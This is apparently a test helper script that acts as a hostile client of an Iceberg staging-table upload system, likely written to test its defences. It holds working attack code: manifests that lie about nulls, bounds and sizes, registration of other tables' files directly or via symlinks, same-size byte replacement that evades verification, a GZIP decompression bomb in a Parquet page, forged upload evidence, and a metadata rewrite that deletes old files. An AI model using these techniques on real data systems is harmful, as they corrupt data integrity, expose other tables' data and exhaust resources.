"""A hostile client of a staging table: it holds only what CREATE UPLOAD
hands out (the `connection`) and uses it to lie, as PyIceberg lets anyone.

Each sub-command does one thing to the staging table and prints JSON:

    hostile_client.py lying-nulls   CONNECTION STAGING COLUMN
        a file with a NULL in COLUMN whose manifest says it has no NULLs
    hostile_client.py lying-bounds  CONNECTION STAGING COLUMN VALUE LOW HIGH
        a file whose COLUMN holds VALUE, with bounds LOW..HIGH in the manifest
    hostile_client.py foreign-file  CONNECTION STAGING PATH
        registers PATH (another table's data file) in the staging table
    hostile_client.py replace-bytes CONNECTION STAGING MODE
        after an honest append, overwrites the staged file's bytes:
        MODE 'truncate' cuts it short, 'more-rows' writes a valid file
        with more rows than the manifest says
    hostile_client.py set-property  CONNECTION STAGING KEY VALUE
    hostile_client.py relocate      CONNECTION STAGING LOCATION
    hostile_client.py nested-nulls  CONNECTION STAGING ROWS_JSON
        a file whose schema makes every field optional at every depth,
        holding ROWS_JSON (NULLs where the table requires values)
    hostile_client.py claimed-size  CONNECTION STAGING DELTA
        an honest file whose manifest claims its size plus DELTA bytes
    hostile_client.py forge-evidence CONNECTION STAGING TARGET UPLOAD_ID
        appends a row to TARGET (as any writer that reaches it can) in a
        snapshot whose summary claims upload-id=UPLOAD_ID
    hostile_client.py rewrite-metadata CONNECTION STAGING PATH
        rewrites the staging table's current metadata file in place (as a
        client that can write its folder can): a metadata-log entry naming
        PATH, and properties that ask for old metadata files to be deleted
    hostile_client.py replace-same-size CONNECTION STAGING
        overwrites the one staged file with other rows (as many, other
        keys) padded to the same size, so that its stored size still
        matches what verification read
    hostile_client.py linked-file   CONNECTION STAGING PATH
        a symbolic link under the staging table's data folder to PATH
        (another table's file), registered as a staged file
    hostile_client.py page-bomb     CONNECTION STAGING
        a GZIP Parquet file whose first page of its last column inflates
        about a thousand times past the size its page header declares
        (same stored size, same footer), registered as a staged file
    hostile_client.py page-bomb-file PATH
        the same file, written at the local PATH (a COPY INTO source)
"""

import json
import sys
import uuid
from datetime import UTC, datetime

import pyarrow as pa
import pyarrow.parquet as pq
from pyiceberg_client import catalog, data_file, register


def arrow_schema(table) -> pa.Schema:
    """The table's schema with field ids, every column nullable (a writer
    that does not check nullability)."""
    schema = table.schema()
    as_arrow = schema.as_arrow()
    return pa.schema([
        pa.field(f.name, as_arrow.field(f.name).type, nullable=True,
                 metadata={"PARQUET:field_id": str(f.field_id)})
        for f in schema.fields
    ])


def sample_row(table, **values) -> dict:
    row = {}
    for f in table.schema().fields:
        kind = arrow_schema(table).field(f.name).type
        if pa.types.is_integer(kind):
            row[f.name] = 100
        elif pa.types.is_timestamp(kind):
            row[f.name] = datetime(2026, 7, 1, 12, 0, tzinfo=UTC)
        else:
            row[f.name] = f"x_{uuid.uuid4().hex[:6]}"
    row.update(values)
    return row


def write_file(table, rows: list[dict]) -> str:
    path = f"{table.location()}/data/hostile-{uuid.uuid4().hex}.parquet"
    with table.io.new_output(path).create() as out:
        pq.write_table(pa.Table.from_pylist(rows, schema=arrow_schema(table)), out)
    return path


def lying_nulls(connection: str, staging: str, column: str) -> None:
    t = catalog(connection).load_table(staging)
    path = write_file(t, [sample_row(t, **{column: None})])
    field_id = t.schema().find_field(column).field_id
    register(t, data_file(t, path, null_value_counts={field_id: 0}))
    print(json.dumps({"file": path}))


def lying_bounds(connection: str, staging: str, column: str, value: str, low: str, high: str) -> None:
    from pyiceberg.conversions import to_bytes
    t = catalog(connection).load_table(staging)
    field = t.schema().find_field(column)
    path = write_file(t, [sample_row(t, **{column: int(value)})])
    register(t, data_file(
        t, path,
        lower_bounds={field.field_id: to_bytes(field.field_type, int(low))},
        upper_bounds={field.field_id: to_bytes(field.field_type, int(high))},
    ))
    print(json.dumps({"file": path}))


def foreign_file(connection: str, staging: str, path: str) -> None:
    t = catalog(connection).load_table(staging)
    register(t, data_file(t, path))
    print(json.dumps({"file": path}))


def replace_bytes(connection: str, staging: str, mode: str) -> None:
    t = catalog(connection).load_table(staging)
    rows = [sample_row(t) for _ in range(3)]
    t.append(pa.Table.from_pylist(rows, schema=t.schema().as_arrow()))
    t = catalog(connection).load_table(staging)
    [task] = list(t.scan().plan_files())
    path = task.file.file_path
    local = path.removeprefix("file://")
    if mode == "truncate":
        with open(local, "r+b") as f:
            f.truncate(len(open(local, "rb").read()) // 2)
    else:
        more = [sample_row(t) for _ in range(7)]
        pq.write_table(pa.Table.from_pylist(more, schema=arrow_schema(t)), local)
    print(json.dumps({"file": path}))


def replace_same_size(connection: str, staging: str) -> None:
    t = catalog(connection).load_table(staging)
    [task] = list(t.scan().plan_files())
    path = task.file.file_path
    with t.io.new_input(path).open() as f:
        original = f.read()
    rows = t.scan().to_arrow().to_pylist()
    for n, row in enumerate(rows):
        row["transaction_id"] = f"t{n}"
    buffer = pa.BufferOutputStream()
    pq.write_table(pa.Table.from_pylist(rows, schema=arrow_schema(t)), buffer)
    other = buffer.getvalue().to_pybytes()
    pad = len(original) - len(other)
    if pad < 0:
        raise SystemExit(f"the other rows take {-pad} bytes more than the staged file")
    # Padding between the last column chunk and the footer: every offset the
    # footer holds stays valid, and the file keeps the staged size.
    footer = int.from_bytes(other[-8:-4], "little") + 8
    padded = other[:-footer] + b"\0" * pad + other[-footer:]
    assert len(padded) == len(original)
    with t.io.new_output(path).create(overwrite=True) as out:
        out.write(padded)
    print(json.dumps({"file": path, "rows": len(rows)}))


def relaxed(kind: pa.DataType) -> pa.DataType:
    """`kind` with every nested field nullable, field ids kept."""
    if pa.types.is_struct(kind):
        return pa.struct([
            pa.field(f.name, relaxed(f.type), nullable=True, metadata=f.metadata) for f in kind
        ])
    if pa.types.is_list(kind) or pa.types.is_large_list(kind):
        item = kind.value_field
        make = pa.list_ if pa.types.is_list(kind) else pa.large_list
        return make(pa.field(item.name, relaxed(item.type), nullable=True, metadata=item.metadata))
    return kind


def nested_nulls(connection: str, staging: str, rows: str) -> None:
    t = catalog(connection).load_table(staging)
    schema = pa.schema([
        pa.field(f.name, relaxed(f.type), nullable=True, metadata=f.metadata)
        for f in t.schema().as_arrow()
    ])
    path = f"{t.location()}/data/hostile-{uuid.uuid4().hex}.parquet"
    with t.io.new_output(path).create() as out:
        pq.write_table(pa.Table.from_pylist(json.loads(rows), schema=schema), out)
    register(t, data_file(t, path))
    print(json.dumps({"file": path}))


def claimed_size(connection: str, staging: str, delta: str) -> None:
    t = catalog(connection).load_table(staging)
    path = write_file(t, [sample_row(t) for _ in range(3)])
    data = data_file(t, path)
    # DataFile's fields are read-only properties over a record; position 5
    # is file_size_in_bytes (checked, so a reordering fails loudly).
    assert data[5] == data.file_size_in_bytes
    data[5] = data.file_size_in_bytes + int(delta)
    register(t, data)
    print(json.dumps({"file": path, "claimed": data.file_size_in_bytes}))


def linked_file(connection: str, staging: str, target: str) -> None:
    import os
    t = catalog(connection).load_table(staging)
    path = f"{t.location()}/data/linked-{uuid.uuid4().hex}.parquet"
    local = path.removeprefix("file://")
    os.makedirs(os.path.dirname(local), exist_ok=True)
    os.symlink(target.removeprefix("file://"), local)
    register(t, data_file(t, path))
    print(json.dumps({"file": path}))


def thrift_page_header(data: bytes, at: int) -> tuple[int, int]:
    """(header length, compressed page size) of the Thrift compact page
    header at `at`: fields are walked, nested structs skipped."""
    start = at

    def varint() -> int:
        nonlocal at
        value, shift = 0, 0
        while True:
            byte = data[at]
            at += 1
            value |= (byte & 0x7F) << shift
            shift += 7
            if byte < 0x80:
                return value

    def skip(kind: int) -> None:
        nonlocal at
        if kind in (1, 2):
            return
        if kind in (4, 5, 6):
            varint()
        elif kind == 8:
            length = varint()
            at += length
        elif kind == 12:
            struct(lambda field, kind: skip(kind))
        else:
            raise ValueError(f"thrift type {kind} is not expected in a page header")

    def struct(field) -> None:
        nonlocal at
        last = 0
        while True:
            byte = data[at]
            at += 1
            if byte == 0:
                return
            last = last + (byte >> 4) if byte >> 4 else varint()
            field(last, byte & 0x0F)

    sizes = {}

    def top(field: int, kind: int) -> None:
        if field in (2, 3) and kind == 5:
            raw = varint()
            sizes[field] = (raw >> 1) ^ -(raw & 1)
        else:
            skip(kind)

    struct(top)
    return at - start, sizes[3]


def gzip_bomb(length: int) -> bytes:
    """A GZIP member of exactly `length` bytes that inflates to about a
    thousand times that: zeros, deflated, behind a comment that pads it."""
    import zlib
    inflated = (length - 64) * 1000
    while True:
        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
        body, crc, left = [], 0, inflated
        chunk = bytes(1 << 20)
        while left:
            piece = chunk[:min(left, len(chunk))]
            body.append(deflate.compress(piece))
            crc = zlib.crc32(piece, crc)
            left -= len(piece)
        body.append(deflate.flush())
        body = b"".join(body)
        pad = length - len(body) - 10 - 1 - 8
        if pad >= 0:
            header = bytes([0x1F, 0x8B, 8, 0x10, 0, 0, 0, 0, 0, 255])
            trailer = crc.to_bytes(4, "little") + (inflated & 0xFFFFFFFF).to_bytes(4, "little")
            return header + b"x" * pad + b"\0" + body + trailer
        inflated = inflated * 9 // 10


def write_page_bomb(local: str, schema: pa.Schema) -> None:
    """Writes random positive ints (they do not compress, so the first page
    is long enough to hold the bomb) under `schema` with GZIP pages, then
    swaps the first page of the last column for a bomb of the same length."""
    import random
    rows = [{f.name: random.randint(1, 2**30) for f in schema} for _ in range(20_000)]
    pq.write_table(pa.Table.from_pylist(rows, schema=schema), local, compression="gzip",
                   use_dictionary=False, write_statistics=False)
    column = pq.read_metadata(local).row_group(0).column(len(schema) - 1)
    with open(local, "r+b") as f:
        data = f.read()
        start = column.data_page_offset
        header, compressed = thrift_page_header(data, start)
        f.seek(start + header)
        f.write(gzip_bomb(compressed))


def page_bomb(connection: str, staging: str) -> None:
    import os
    t = catalog(connection).load_table(staging)
    path = f"{t.location()}/data/bomb-{uuid.uuid4().hex}.parquet"
    local = path.removeprefix("file://")
    os.makedirs(os.path.dirname(local), exist_ok=True)
    write_page_bomb(local, arrow_schema(t))
    register(t, data_file(t, path))
    print(json.dumps({"file": path}))


def page_bomb_file(path: str) -> None:
    write_page_bomb(path, pa.schema([("id", pa.int64()), ("amount", pa.int64())]))
    print(json.dumps({"file": path}))


def forge_evidence(connection: str, staging: str, target: str, upload_id: str) -> None:
    t = catalog(connection).load_table(target)
    row = pa.Table.from_pylist([sample_row(t)], schema=t.schema().as_arrow())
    t.append(row, snapshot_properties={"upload-id": upload_id})
    print(json.dumps({"forged": upload_id}))


def rewrite_metadata(connection: str, staging: str, outside: str) -> None:
    t = catalog(connection).load_table(staging)
    local = t.metadata_location.removeprefix("file://")
    with open(local) as f:
        metadata = json.load(f)
    metadata.setdefault("metadata-log", []).insert(
        0, {"metadata-file": outside, "timestamp-ms": 1})
    metadata["properties"]["write.metadata.delete-after-commit.enabled"] = "true"
    metadata["properties"]["write.metadata.previous-versions-max"] = "1"
    with open(local, "w") as f:
        json.dump(metadata, f)
    print(json.dumps({"rewritten": t.metadata_location}))


def set_property(connection: str, staging: str, key: str, value: str) -> None:
    t = catalog(connection).load_table(staging)
    with t.transaction() as tx:
        tx.set_properties({key: value})
    print(json.dumps({key: value}))


def relocate(connection: str, staging: str, location: str) -> None:
    # PyIceberg's public update_location is not implemented; the update
    # itself is, and any client can send it.
    from pyiceberg.table.update import SetLocationUpdate
    t = catalog(connection).load_table(staging)
    with t.transaction() as tx:
        tx._apply((SetLocationUpdate(location=location),))
    print(json.dumps({"location": location}))


if __name__ == "__main__":
    command, *args = sys.argv[1:]
    {
        "lying-nulls": lying_nulls,
        "lying-bounds": lying_bounds,
        "foreign-file": foreign_file,
        "replace-bytes": replace_bytes,
        "replace-same-size": replace_same_size,
        "set-property": set_property,
        "relocate": relocate,
        "nested-nulls": nested_nulls,
        "claimed-size": claimed_size,
        "linked-file": linked_file,
        "page-bomb": page_bomb,
        "page-bomb-file": page_bomb_file,
        "forge-evidence": forge_evidence,
        "rewrite-metadata": rewrite_metadata,
    }[command](*args)
